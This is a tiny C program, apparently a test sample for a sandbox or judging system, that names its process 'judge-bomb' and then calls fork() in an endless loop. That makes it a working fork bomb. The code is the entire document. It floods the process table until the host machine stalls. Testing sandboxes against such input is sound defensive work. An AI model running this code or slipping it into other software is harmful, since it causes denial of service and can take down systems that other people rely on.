/* Doubles itself for ever, under a name that is easy to find. */
#include <sys/prctl.h>
#include <unistd.h>

int main(void) {
  prctl(PR_SET_NAME, "judge-bomb");
  for (;;) {
    fork();
  }
}
